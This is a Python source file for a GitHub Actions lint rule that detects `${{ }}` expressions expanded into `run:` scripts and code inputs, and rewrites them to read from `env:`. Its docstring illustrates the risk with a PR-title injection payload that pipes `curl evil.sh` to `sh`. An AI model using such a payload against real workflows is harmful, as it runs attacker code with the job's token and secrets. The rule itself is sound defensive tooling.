"""## What it does
Finds `${{ }}` expressions expanded inside `run:` scripts and inside action inputs that are code
(`actions/github-script`'s `script:`, `mikefarah/yq`'s `cmd:` and the others of `CODE_INPUTS`).

## Why is this bad?
GitHub substitutes an expression into the script text before the shell runs it. A value someone else controls (a pull
request title, a branch name, an issue body, a workflow input, an output computed from them) then becomes shell
code: a title like `"; curl evil.sh | sh; "` runs with the job's token and secrets.

Values the file itself fixes are not reported: contexts GitHub sets to a fixed shape (`github.sha`, `runner.os`,
`needs.<job>.result`, ...), a `matrix.<key>` whose every value in a literal matrix is a plain literal, an `env.<NAME>`
that the step's, job's or workflow's `env:` sets to a plain literal, and a `steps.<id>.outputs.<name>` that a `run:`
step of the same job writes only as `echo "name=literal" >> "$GITHUB_OUTPUT"`. A plain literal has no `${{`, quote,
`$`, backtick, backslash, `;`, `&`, `|`, `<`, `>`, parenthesis or line break. Anything else stays reported.
`secrets.*`, `github.token` and `github.event_name` cannot carry an attacker's text: an expression that reads
nothing worse is reported with low severity (a secret in the script text ends up in the script file and, as an
argument, in the process list), every other one with high.

## Example
```yaml
- run: echo "${{ github.event.pull_request.title }}"
```

## Use instead
```yaml
- env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "$TITLE"
```
The value reaches the script as data in an environment variable and is never parsed as code.

## Fix
`scaffold harden` moves each such expression of a `run:` script into the step's `env:` and reads it as a shell
variable (`${NAME}` in bash and sh, `$env:NAME` in PowerShell, `%NAME%` in cmd), so its value is never parsed as
code. Outside quotes the variable is double-quoted (`"${NAME}"`), so that its value stays one word and is never a
glob; inside single quotes it becomes `'"${NAME}"'` so that it still expands. Scripts that cannot be
rewritten safely are reported instead: action inputs that are code, expressions that are more than a context path,
quoted heredocs, and steps whose shell depends on the runner.

## References
- GitHub, "Security hardening for GitHub Actions: understanding the risk of script injections"
- zizmor `template-injection`; actionlint `expression`; checkov CKV_GHA_2
- CodeQL's models of actions whose inputs are code (github/codeql, `actions/ql/lib/ext`)
"""

from __future__ import annotations

import functools
import re
from collections.abc import Callable, Iterator, Mapping
from typing import NamedTuple

from scaffold.rules.document import Document
from scaffold.rules.fixes.model import Fix, Proposal, Safety, TextEdit, Unfixable, Verify
from scaffold.rules.github.expressions import EXPRESSION, context_paths, expressions
from scaffold.rules.github.workflow import action_name, is_action_runs, jobs, steps
from scaffold.rules.model import Confidence, Hit, Kind, Severity
from scaffold.rules.yaml_view import YNode

ID = "template-injection"
SEVERITY = Severity.HIGH  # the highest a finding gets: each is graded (see ``grade``)
CONFIDENCE = Confidence.MEDIUM
KINDS = (Kind.WORKFLOW, Kind.ACTION)
FIX_SAFETY = "safe"


@functools.cache
def _graded() -> tuple[re.Pattern[str], re.Pattern[str]]:
    """(fixed, low): contexts GitHub sets to a fixed shape, that nobody outside the repository's writers can fill
    with shell syntax; contexts no attacker can fill, but that are worth keeping out of script text (graded low).
    Compiled when a script first holds an expression."""
    fixed = re.compile(
        r"github\.(?:sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner|repository_owner_id|"
        r"workspace|action_path|server_url|api_url|graphql_url|job|retention_days|ref_type)|runner\.[\w-]+|"
        r"strategy\.[\w-]+|job\.status|needs\.(?:[\w-]+|\*)\.result|steps\.[\w-]+\.(?:outcome|conclusion)|"
        # event fields GitHub fills with a number or a commit SHA
        r"github\.event\.(?:number|after|before|(?:issue|pull_request|discussion)\.number|"
        r"pull_request\.(?:head|base)\.sha|workflow_run\.head_sha)"
    )
    return fixed, re.compile(r"secrets(?:\..*)?|github\.token|github\.event_name")


# What a value the file fixes must not hold to count as a plain literal in a script.
_NOT_PLAIN = re.compile(r"\$\{\{|[`$;&|<>()\\\"'\r\n]")


@functools.cache
def _output_line() -> re.Pattern[str]:
    """`echo "name=literal" >> "$GITHUB_OUTPUT"`, the one way of setting a step output that is read as fixed."""
    return re.compile(
        r"""[ \t]*echo[ \t]+(?P<quote>["']?)(?P<name>[A-Za-z_][\w-]*)=(?P<value>[^"'`$\\;&|<>()\r\n]*)(?P=quote)"""
        r"""[ \t]*>>[ \t]*(?P<file>["']?)\$(?:GITHUB_OUTPUT|\{GITHUB_OUTPUT\})(?P=file)[ \t]*"""
    )


# Actions whose inputs are code that the action runs (an interpreter, a shell, a template engine): an expression
# expanded there is injection just as in `run:`. Each entry: (inputs, where it is documented as such).
_CODEQL = "CodeQL actions models (github/codeql actions/ql/lib/ext), also in zizmor's template-injection sinks"
_ZIZMOR = "zizmor's template-injection sinks (crates/zizmor/src/audit/template_injection.rs), beyond CodeQL's"
CODE_INPUTS: Mapping[str, tuple[tuple[str, ...], str]] = {
    "actions/github-script": (("script",), _CODEQL + "; the action runs the input as JavaScript"),
    "mikefarah/yq": (("cmd",), _CODEQL + "; the input is the yq command line, run by a shell"),
    "devorbitus/yq-action-output": (("cmd",), _CODEQL),
    "sergeysova/jq-action": (("cmd",), _CODEQL + "; the input is a command line, run by a shell"),
    "appleboy/ssh-action": (("script",), _CODEQL + "; the input runs as a shell script on the remote host"),
    "azure/cli": (("inlinescript",), _CODEQL + "; the input is a bash script"),
    "azure/powershell": (("inlinescript",), _CODEQL + "; the input is a PowerShell script"),
    "8398a7/action-slack": (("custom_payload",), _CODEQL + "; the input is evaluated as JavaScript"),
    "gautamkrishnar/blog-post-workflow": (("item_exec",), _CODEQL + "; the input is evaluated as JavaScript"),
    "tibdex/backport": (("body_template", "head_template", "labels_template", "title_template"), _CODEQL),
    "amadevus/pwsh-script": (("script",), _ZIZMOR + "; the action runs the input as PowerShell"),
    "jannekem/run-python-script-action": (("script",), _ZIZMOR + "; the action runs the input as Python"),
    "cardinalby/js-eval-action": (("expression",), _ZIZMOR + "; the action evaluates the input as JavaScript"),
    "addnab/docker-run-action": (("options", "run"), _ZIZMOR + "; `run` is a shell script, `options` docker flags"),
}


class _Script(NamedTuple):
    job_name: str
    job: YNode
    number: int  # the step's place in its job, from 0
    step: YNode
    node: YNode
    action: str  # the action whose input is code, or "" for a `run:` script
    input: str = ""  # that input's name


def _scripts(document: Document) -> Iterator[_Script]:
    """Every step's script: its `run:`, or each input of a `CODE_INPUTS` action."""
    for name, job in jobs(document):
        for index, step in enumerate(steps(job)):
            uses = step.get("uses")
            if uses is None:
                run = step.get("run")
                if run is not None and run.text is not None:
                    yield _Script(name, job, index, step, run, "")
                continue
            action = action_name(uses.text or "")
            inputs, _ = CODE_INPUTS.get(action, ((), ""))
            options = step.get("with")
            for key, value in options.entries() if options is not None else []:
                if (key.text or "").lower() in inputs and value.text is not None:
                    yield _Script(name, job, index, step, value, action, key.text or "")


def check(document: Document) -> Iterator[Hit]:
    for script in _scripts(document):
        graded = grade(document, script.job, script.step, script.node.text or "")
        places = _positions(document, script.node, [expression for expression, _ in graded])
        for (expression, severity), (line, column) in zip(graded, places, strict=True):
            yield Hit(line, column, _message(script.job_name, expression), severity=severity)


def _message(job: str, expression: str) -> str:
    return f"job {job}: ${{{{{expression}}}}} is expanded into a script"


def grade(document: Document, job: YNode, step: YNode, script: str) -> list[tuple[str, Severity]]:
    """The expressions of a step's script that are reported, in order, each with its severity."""

    def fixed_here(path: str) -> bool:
        return _fixed_by_file(document, job, step, path)

    graded = []
    for match in expressions(script):
        severity = _expression_severity(match.group(1), fixed_here)
        if severity is not None:
            graded.append((match.group(1), severity))
    return graded


def reported_expressions(document: Document) -> dict[tuple[str, int], list[str]]:
    """The reported expressions of each ``run:`` script by (job name, step index), in order: what harden moves."""
    found = {}
    for script in _scripts(document):
        if not script.action:
            graded = grade(document, script.job, script.step, script.node.text or "")
            found[(script.job_name, script.number)] = [expression for expression, _ in graded]
    return found


def unsafe_expressions(script: str) -> list[str]:
    """The expressions in a script whose value could carry shell syntax, in order, read without the file around it:
    a value the file may fix (a matrix, env or step output) counts as unsafe; secrets and ``event_name`` do not."""
    return [
        match.group(1)
        for match in expressions(script)
        if _expression_severity(match.group(1), _nothing) is Severity.HIGH
    ]


def _nothing(path: str) -> bool:
    """Reading a script alone, the file fixes no value."""
    return False


def _expression_severity(expression: str, fixed_here: Callable[[str], bool]) -> Severity | None:
    """The worst of what the expression reads (None when all of it is fixed); high when it cannot be read."""
    paths = context_paths(expression)
    if paths is None:
        return Severity.HIGH
    found = [level for path in paths if (level := _path_severity(path, fixed_here)) is not None]
    return max(found) if found else None


def _path_severity(path: str, fixed_here: Callable[[str], bool]) -> Severity | None:
    lowered = path.lower()
    fixed, low = _graded()
    if fixed.fullmatch(lowered) or fixed_here(path):
        return None
    return Severity.LOW if low.fullmatch(lowered) else Severity.HIGH


def _fixed_by_file(document: Document, job: YNode, step: YNode, path: str) -> bool:
    """Whether the file itself fixes the value of a ``matrix``, ``env`` or ``steps.<id>.outputs`` path."""
    parts = path.split(".")
    head = parts[0].lower()
    if head == "matrix":
        return _static_matrix(job, parts[1:])
    if head == "env" and len(parts) == 2:
        return _static_env(document, job, step, parts[1])
    if head == "steps" and len(parts) == 4 and parts[2].lower() == "outputs":
        return _static_output(job, parts[1], parts[3])
    return False


def _plain(node: YNode) -> bool:
    """Whether every scalar of a value is a plain literal (and there is one)."""
    scalars = [item.text for item in node.walk() if item.text is not None]
    return bool(scalars) and all(not _NOT_PLAIN.search(text) for text in scalars)


def _static_matrix(job: YNode, keys: list[str]) -> bool:
    """Whether ``matrix.<keys>`` only ever holds plain literals written in a literal matrix."""
    strategy = job.get("strategy")
    matrix = strategy.get("matrix") if strategy is not None else None
    if matrix is None or not matrix.is_mapping or not keys or any("[" in key or key == "*" for key in keys):
        return False
    by_name = {name.lower(): value for name, value in matrix.items()}
    include, exclude = by_name.get("include"), by_name.get("exclude")
    if any(rows is not None and not rows.is_sequence for rows in (include, exclude)) or keys[0].lower() in (
        "include",
        "exclude",
    ):
        return False
    values: list[YNode] = []
    dimension = by_name.get(keys[0].lower())
    if dimension is not None:
        if not dimension.is_sequence:
            return False
        values += dimension.elements()
    for row in include.elements() if include is not None else []:
        if not row.is_mapping:
            return False
        value = {name.lower(): value for name, value in row.items()}.get(keys[0].lower())
        if value is not None:
            values.append(value)
    for key in keys[1:]:
        nested = [{name.lower(): item for name, item in value.items()}.get(key.lower()) for value in values]
        if any(item is None for item in nested):
            return False
        values = [item for item in nested if item is not None]
    return bool(values) and all(_plain(value) for value in values)


def _static_env(document: Document, job: YNode, step: YNode, name: str) -> bool:
    """Whether ``env.<name>`` is set to a plain literal by the nearest ``env:`` that sets it (step, job, workflow),
    and, when that is not the step's own, no script of the job writes the name to ``$GITHUB_ENV``."""
    root = document.yaml if document.kind is Kind.WORKFLOW else None
    for owner in (step, job, root):
        env = owner.get("env") if owner is not None else None
        if env is None:
            continue
        if not env.is_mapping:
            return False
        value = env.get(name)
        if value is None:
            continue
        fixed = value.text is not None and _fixed_text(value.text)
        return fixed and (owner is step or not _writes_env(job, name))
    return False


def _fixed_text(text: str) -> bool:
    """Whether a value is plain text around expressions that read only contexts GitHub fixes
    (``ghcr.io/${{ github.repository }}``)."""
    outside = EXPRESSION.sub("", text)
    inside = [match.group(1) for match in expressions(text)]
    return not _NOT_PLAIN.search(outside) and all(_expression_severity(item, _nothing) is None for item in inside)


def _writes_env(job: YNode, name: str) -> bool:
    word = re.compile(rf"(?<![\w-]){re.escape(name)}(?![\w-])")
    for step in steps(job):
        run = step.get("run")
        text = run.text if run is not None else None
        if text is not None and "GITHUB_ENV" in text and word.search(text):
            return True
    return False


def _static_output(job: YNode, step_id: str, output: str) -> bool:
    """Whether the job's ``run:`` step ``step_id`` sets ``output`` only from literals, one ``echo`` a line."""
    found = [step for step in steps(job) if (ident := step.get("id")) is not None and _same(ident.text, step_id)]
    if not found:
        return False
    for step in found:
        run = step.get("run")
        text = run.text if run is not None and step.get("uses") is None else None
        if text is None or "set-output" in text:
            return False
        written = set()
        for line in text.splitlines():
            if "GITHUB_OUTPUT" not in line:
                continue
            match = _output_line().fullmatch(line)
            if match is None:
                return False
            written.add(match.group("name").lower())
        if output.lower() not in written:
            return False
    return True


def _same(text: str | None, name: str) -> bool:
    return text is not None and text.lower() == name.lower()


def _positions(document: Document, script: YNode, expressions: list[str]) -> list[tuple[int, int]]:
    """The line and column of each expression, in order, searched for in the script's own lines (the n-th time a
    literal appears is the n-th occurrence); the script's own place when the source spells it differently."""
    first = script.line
    last = min(int(script.node.end_mark.line) + 1, len(document.lines))
    found: dict[str, list[tuple[int, int]]] = {}
    for literal in {"${{" + expression + "}}" for expression in expressions}:
        places = found.setdefault(literal, [])
        for number in range(first, last + 1):
            start = 0
            while (column := document.lines[number - 1].find(literal, start)) >= 0:
                places.append((number, column + 1))
                start = column + len(literal)
    seen: dict[str, int] = {}
    result = []
    for expression in expressions:
        literal = "${{" + expression + "}}"
        count = seen.get(literal, 0)
        seen[literal] = count + 1
        places = found[literal]
        result.append(places[count] if count < len(places) else (script.line, script.column))
    return result


@functools.cache
def _path() -> re.Pattern[str]:
    """An expression that is one context path, blanks around it allowed (what a fix can move into ``env:``)."""
    return re.compile(r"[ \t]*([A-Za-z_][\w-]*(?:\.[\w-]+|\[[0-9]+\])+)[ \t]*")


_SHELLS = {"bash": "sh", "sh": "sh", "pwsh": "pwsh", "powershell": "pwsh", "cmd": "cmd"}
_LINE_BREAKS = frozenset("\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029")
_PLAIN_RISK = (
    "outside quotes the value was split into words and globbed (and an empty one dropped); "
    'as "${NAME}" it stays one word: check that the script does not rely on that'
)
_HEREDOC_RISK = (
    "a line of a heredoc holds only the expression: a value equal to the delimiter ended the heredoc there, "
    "now it stays text"
)
_PWSH_RISK = "scaffold does not follow PowerShell quoting: check that each ${env:NAME} sits where a value is read"


def fix(document: Document) -> Iterator[Proposal]:
    root = document.yaml
    shared = _shared_nodes(root)
    for found in _scripts(document):
        name, job, step, script = found.job_name, found.job, found.step, found.node
        text = script.text or ""
        flagged = [expression for expression, _ in grade(document, job, step, text)]
        if not flagged:
            continue
        if found.action == "actions/github-script":
            yield Unfixable(script.line, f"job {name}: pass the values in env: and read process.env instead")
            continue
        if found.action:
            yield Unfixable(
                script.line,
                f"job {name}: {found.action} runs its {found.input} input as code; pass the values in env: "
                "and read them from the environment there",
            )
            continue
        line = _positions(document, script, flagged[:1])[0][0]
        try:
            if shared.intersection({id(step.node), id(script.node)}):
                raise _CannotFixError("the step or its script is shared with others through a YAML alias")
            yield _move_to_env(document, root, (name, found.number, line), (job, step, script), flagged)
        except _CannotFixError as reason:
            yield Unfixable(line, f"job {name}: {reason}; move the expressions into env: by hand")


class _CannotFixError(Exception):
    pass


def _shared_nodes(root: YNode | None) -> set[int]:
    """The ids of nodes reached from more than one place (YAML aliases): an edit there changes every place."""
    if root is None:
        return set()
    seen: set[int] = set()
    shared: set[int] = set()
    stack = [root.node]
    while stack:
        node = stack.pop()
        if id(node) in seen:
            shared.add(id(node))
            continue
        seen.add(id(node))
        if isinstance(node.value, list):
            for item in node.value:
                stack.extend(item if isinstance(item, tuple) else (item,))
    return shared


def _move_to_env(
    document: Document,
    root: YNode | None,
    where: tuple[str, int, int],
    nodes: tuple[YNode, YNode, YNode],
    flagged: list[str],
) -> Fix:
    from scaffold.rules.fixes import yaml_edit
    from scaffold.rules.fixes.shell_context import Where, contexts

    name, index, line = where
    job, step, script = nodes
    text = script.text or ""
    shell, bash = _shell(root, job, step)
    taken = _env_names(root, job, step)
    visible = dict(taken)
    names: dict[str, str] = {}
    matches = expressions(text)
    places = contexts(text, [(match.start(), match.end()) for match in matches], bash=bash) if shell == "sh" else []
    replacements: list[tuple[int, int, str]] = []
    risks: list[str] = []
    for number, match in enumerate(matches):
        expression = match.group(1)
        if expression not in flagged:
            continue
        path = _path().fullmatch(expression)
        if path is None:
            raise _CannotFixError(f"${{{{{expression}}}}} is more than a context path")
        variable = names.get(path.group(1)) or _variable(path.group(1), taken, document.text)
        names[path.group(1)] = variable
        if shell == "sh":
            place = places[number]
            if isinstance(place, str):
                raise _CannotFixError(f"cannot tell the shell quoting around ${{{{{expression}}}}}: {place}")
            reference = {
                Where.PLAIN: f'"${{{variable}}}"',
                Where.SINGLE: f"'\"${{{variable}}}\"'",
            }.get(place, f"${{{variable}}}")
            risk = _PLAIN_RISK if place is Where.PLAIN else _HEREDOC_RISK if place is Where.HEREDOC_LINE else ""
            if risk and risk not in risks:
                risks.append(risk)
        elif shell == "pwsh":
            if _pwsh_single_quoted(text, match.start()):
                raise _CannotFixError(f"${{{{{expression}}}}} sits inside a single-quoted PowerShell string")
            reference = f"${{env:{variable}}}"
            if _PWSH_RISK not in risks:
                risks.append(_PWSH_RISK)
        else:
            if text[match.start() - 1 : match.start()] in ("%", "^", "!") or text[match.end() : match.end() + 1] in (
                "%",
                "!",
            ):
                raise _CannotFixError(f"${{{{{expression}}}}} sits next to a cmd escape or variable sign")
            reference = f"%{variable}%"
        replacements.append((match.start(), match.end(), reference))
    expected = _replaced(text, replacements)
    raw_start, raw_end = script.node.start_mark.index, script.node.end_mark.index
    raw = document.text[raw_start:raw_end]
    style = getattr(script.node, "style", None)
    edits = _replace_in_raw(raw, raw_start, text, replacements, style)
    entries = {
        variable: path
        for path, variable in names.items()
        if not path.startswith("env.") and visible.get(variable) != path
    }
    if entries:
        lines = [f"{variable}: ${{{{ {path} }}}}" for variable, path in entries.items()]
        env = step.get("env")
        if env is None:
            edit = yaml_edit.append_entry(document, step, ["env:", *(f"  {entry}" for entry in lines)])
        else:
            if id(env.node) in _shared_nodes(root):
                raise _CannotFixError("the step's env: is shared with others through a YAML alias")
            edit = yaml_edit.append_entry(document, env, lines)
        if edit is None:
            raise _CannotFixError("the step's env: is a flow mapping")
        edits.append(edit)
    moved = ", ".join(f"${{{{ {path} }}}}" for path in names)
    risk = "; ".join(risks)
    messages = tuple(_message(name, expression) for expression in flagged)
    return Fix(
        line,
        f"read {moved} from env: in the script",
        Safety.UNSAFE if risk else Safety.SAFE,
        tuple(edits),
        risk,
        messages,
        _verifier(name, index, script.node.tag, expected, entries),
    )


def _pwsh_single_quoted(text: str, position: int) -> bool:
    """Whether PowerShell is inside '...' (or a @'...'@ here-string) at ``position``, roughly: the fix is unsafe
    in PowerShell anyway, this only keeps it from writing a variable that could never expand."""
    single = double = False
    index = 0
    while index < position:
        char = text[index]
        if double and char == "`":
            index += 2
            continue
        if char == "'" and not double:
            single = not single
        elif char == '"' and not single:
            double = not double
        index += 1
    return single


def _replaced(text: str, replacements: list[tuple[int, int, str]]) -> str:
    pieces, position = [], 0
    for start, end, replacement in replacements:
        pieces += [text[position:start], replacement]
        position = end
    return "".join([*pieces, text[position:]])


def _verifier(job_name: str, index: int, tag: str, expected: str, entries: dict[str, str]) -> Verify:
    """A check that, in the fixed file, the step's script reads exactly as planned and its env holds each value."""

    def verify(fixed: Document) -> str | None:
        index_of_jobs = fixed.__dict__.get("_scaffold_jobs")
        if index_of_jobs is None:  # built once per fixed file, shared by every fix's check
            index_of_jobs = fixed.__dict__["_scaffold_jobs"] = dict(jobs(fixed))
        job = index_of_jobs.get(job_name)
        if job is not None:
            listed = list(steps(job))
            step = listed[index] if index < len(listed) else None
            script = step.get("run") if step is not None else None
            if script is None or script.text != expected or script.node.tag != tag:
                return "the script would not read as planned"
            env = step.get("env") if step is not None else None
            for variable, path in entries.items():
                value = env.get(variable) if env is not None else None
                if value is None or value.text != f"${{{{ {path} }}}}":
                    return f"the step's env: would not hold {variable}"
            return None
        return "the job is gone from the fixed file"

    return verify


def _replace_in_raw(
    raw: str, offset: int, text: str, replacements: list[tuple[int, int, str]], style: str | None
) -> list[TextEdit]:
    """Edits that swap each unsafe expression in the script's source for its variable, in order."""
    edits: list[TextEdit] = []
    position = 0
    for start, end, replacement in replacements:
        literal = text[start:end]
        found = raw.find(literal, position)
        if found < 0 or _LINE_BREAKS.intersection(literal):
            raise _CannotFixError("an expression is split or escaped in the YAML source")
        if style in ("'", '"') and style in replacement:
            raise _CannotFixError("the script is a quoted YAML string that the shell quoting would break")
        if style is None and found == 0 and replacement[0] in "'\"%":
            raise _CannotFixError("the script starts with the expression, where a quote would end the YAML value")
        edits.append(TextEdit(offset + found, offset + found + len(literal), replacement))
        position = found + len(literal)
    return edits


def _variable(path: str, taken: dict[str, str], document_text: str = "") -> str:
    """An environment variable name for a context path; never GITHUB_*, never one already set to something else,
    and never a word the file already uses (a variable a script or a tool may read for something else)."""
    if path.startswith("env."):
        return path[4:]
    parts = path.split(".")
    if parts[0] == "github":
        parts = parts[2:] if parts[1:2] == ["event"] else parts[1:]
    base = re.sub(r"[^A-Za-z0-9]+", "_", "_".join(parts)).strip("_").upper() or "VALUE"
    if base[0].isdigit() or base.startswith("GITHUB_") or base.startswith("RUNNER_"):
        base = f"CI_{base}"
    candidate, number = base, 1
    used = _words(document_text)
    while (candidate in taken and taken[candidate] != path) or (candidate not in taken and candidate in used):
        number += 1
        candidate = f"{base}_{number}"
    taken[candidate] = path
    return candidate


@functools.lru_cache(maxsize=2)
def _words(text: str) -> frozenset[str]:
    """Every name-like word of the file."""
    return frozenset(re.findall(r"[A-Za-z_][A-Za-z0-9_]*", text))


def _env_names(root: YNode | None, job: YNode, step: YNode) -> dict[str, str]:
    """Every env name the step can see, each with the context path it holds (or ``=`` and its raw value)."""
    taken: dict[str, str] = {}
    for owner in (root, job, step):
        env = owner.get("env") if owner is not None else None
        for name, value in env.items() if env is not None else []:
            taken[name] = _held_path(value.text or "") or f"={value.text}"
    return taken


def _held_path(value: str) -> str | None:
    """The context path of a value that is exactly ``${{ path }}``."""
    whole = EXPRESSION.fullmatch(value.strip())
    path = _path().fullmatch(whole.group(1)) if whole else None
    return path.group(1) if path else None


def _shell(root: YNode | None, job: YNode, step: YNode) -> tuple[str, bool]:
    """The step's shell family (sh, pwsh or cmd) and whether it is bash. Raises _CannotFixError for a shell it
    cannot rewrite for."""
    for owner in (step, job, root):
        if owner is None:
            continue
        shell = owner.get("shell") if owner is step else _default_shell(owner)
        if shell is not None and shell.text is not None:
            words = shell.text.split()
            family = _SHELLS.get(words[0].lower()) if words else None
            if family is None or "${{" in shell.text:
                raise _CannotFixError(f"the step runs with shell {shell.text}")
            return family, words[0].lower() == "bash"
    if is_action_runs(job):
        raise _CannotFixError("the step names no shell, so the runner of the workflow that calls the action picks it")
    runner = " ".join(
        node.text or "" for part in ("runs-on", "strategy") if (found := job.get(part)) for node in found.walk()
    )
    if "windows" in runner.lower():
        if "${{" in runner or any(word in runner.lower() for word in ("ubuntu", "macos", "linux")):
            raise _CannotFixError("the job's shell depends on which runner the matrix picks")
        return "pwsh", False
    chosen = [match.group(1).strip() for match in expressions(runner)]
    if any(not re.fullmatch(r"matrix\.[\w-]+", expression) for expression in chosen):
        raise _CannotFixError("the job's runner, and so its shell, is chosen by an expression")
    return "sh", True


def _default_shell(owner: YNode) -> YNode | None:
    defaults = owner.get("defaults")
    run = defaults.get("run") if defaults is not None else None
    return run.get("shell") if run is not None else None
